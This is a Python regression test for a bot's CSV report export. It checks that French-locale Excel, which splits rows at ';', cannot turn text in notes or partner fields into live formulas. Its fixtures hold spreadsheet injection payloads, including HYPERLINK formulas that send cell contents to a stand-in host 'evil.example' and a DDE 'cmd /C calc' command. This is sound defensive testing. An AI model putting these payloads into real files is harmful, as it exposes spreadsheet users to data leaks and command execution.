"""A CSV export opened with a double click in French (or Spanish, Portuguese...) Excel runs no
formula, after a ";" or a line break in a note.

Where the list separator is ";", Excel opens a .csv file by splitting every line at each ";",
whatever the commas and quotes say. A note typed as "Réunion;=HYPERLINK(...)" was written as
it is (csv quotes only fields with a comma, a quote or a new line), and the text after the ";"
became a cell of its own, a live formula, in the manager's spreadsheet. Now what follows a ";"
is guarded as a cell's start is (a leading "'"), and an import takes it off again.
"""

from __future__ import annotations

import re
from pathlib import Path

from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.reports_io import ImportResult, export_reports, import_reports
from models.queries import ensure_user
from tests.integration.training_reports import NOW, store_trainings

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
TEXTS = (
    {"notes": 'Réunion avec le juge;=HYPERLINK("http://evil.example/?"&A1,"Détails")'},
    {"notes": "Atelier, suivi;@SUM(1+1)*cmd|' /C calc'!A0", "partner": "UNICEF;+1+1"},
    {"place": "Jacmel;Cayes;－2+3", "partner": "Plan;-5"},  # "-5,,R-G31FBG,..." to Excel
    # A line break inside the quoted note ends the row there (the quote, in the middle of a
    # ";" cell, is no quote to Excel): the next line starts a row's first cell.
    {"notes": 'Compte rendu :\n=HYPERLINK("http://evil.example/","Ouvrir")\r\n+1+1 participants'},
)


async def _store(session: AsyncSession) -> None:
    await store_trainings(session, TEXTS, author="Officier", language="fr")


def _as_french_excel_splits(path: Path) -> list[str]:
    """The cells of a double-clicked .csv where the list separator is ";": each line cut at
    every ";" (a cell that starts with a quote is read as quoted text)."""
    text = path.read_text(encoding="utf-8-sig")
    return [cell.removeprefix('"') for line in text.splitlines() for cell in line.split(";")]


def _runs(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) is None


async def test_no_cell_after_a_semicolon_runs_and_the_export_imports_back_unchanged(
    session_factory: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    async with session_factory() as session:
        await _store(session)
    path = tmp_path / "rapports.csv"
    async with session_factory() as session:
        assert await export_reports(session, path, date_from=None, date_to=None) == 4

    assert [cell for cell in _as_french_excel_splits(path) if _runs(cell)] == []
    async with session_factory() as session:
        author = await ensure_user(session, 5550001, "Officier", "fr")
        again = await import_reports(session, path, author_user_id=author.id, now=NOW)
    assert again.errors == []
    assert again == ImportResult(created=0, unchanged=4, errors=[])  # the same text came back
